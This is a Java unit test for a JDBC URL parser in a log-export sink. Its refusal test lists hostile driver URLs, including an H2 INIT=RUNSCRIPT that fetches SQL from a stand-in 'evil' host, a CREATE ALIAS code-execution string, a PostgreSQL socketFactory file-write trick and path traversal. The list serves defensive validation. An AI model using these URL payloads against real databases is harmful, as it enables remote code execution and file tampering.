package io.logcaster.sink.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.logcaster.sink.SinkTesting;
import io.logcaster.system.ProblemException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** URLs of drivers can run scripts and load classes. */
class JdbcUrlTest {

  private static final Path FILES = Path.of("/srv/export");

  private static JdbcUrl parse(String url) {
    return JdbcUrl.parse(url, SinkTesting.context("table", FILES, Duration.ofSeconds(1)));
  }

  @Test
  void postgresql_withSeveralHosts_isRead() {
    JdbcUrl url = parse("jdbc:postgresql://db-1:6432,[::1]/logs?sslmode=verify-full");

    assertThat(url.dialect()).isEqualTo(Dialect.POSTGRESQL);
    assertThat(url.hosts())
        .isEqualTo(List.of(new JdbcUrl.Host("db-1", 6432), new JdbcUrl.Host("::1", 5432)));
  }

  @Test
  void h2_isAServer_orAFileInTheFolderForFiles() {
    assertThat(parse("jdbc:h2:tcp://db/./logs;CIPHER=AES").hosts())
        .containsExactly(new JdbcUrl.Host("db", 9092));
    assertThat(parse("jdbc:h2:./logs;IFEXISTS=TRUE").url())
        .isEqualTo("jdbc:h2:file:/srv/export/logs;IFEXISTS=TRUE;DB_CLOSE_ON_EXIT=FALSE");
    assertThat(parse("jdbc:h2:file:archive/logs").url())
        .isEqualTo("jdbc:h2:file:/srv/export/archive/logs;DB_CLOSE_ON_EXIT=FALSE");
    assertThat(parse("jdbc:h2:./logs;AUTO_SERVER=TRUE").url()).endsWith("/logs;AUTO_SERVER=TRUE");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:./logs;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:./logs;init=CREATE ALIAS X AS 'x'",
        "jdbc:h2:./logs;IFEXISTS=TRUE;TRACE_LEVEL_SYSTEM_OUT=3",
        "jdbc:h2:mem:logs",
        "jdbc:h2:zip:/a.zip!/logs",
        "jdbc:h2:/etc/logs",
        "jdbc:h2:file:../control",
        "jdbc:h2:nio:/tmp/x",
        "jdbc:postgresql://db/logs?socketFactory=java.io.FileOutputStream&socketFactoryArg=/tmp/x",
        "jdbc:postgresql://db/logs?loggerFile=/tmp/x",
        "jdbc:postgresql://db/logs?user=me&password=secret",
        "jdbc:postgresql://user:pw@db/logs",
        "jdbc:postgresql:logs",
        "jdbc:postgresql://db:99999/logs",
        "jdbc:mysql://db/logs",
        "",
      })
  void anythingElse_isRefused(String url) {
    assertThatThrownBy(() -> parse(url))
        .isInstanceOf(ProblemException.class)
        .hasMessageContaining("'options.url'");
  }
}
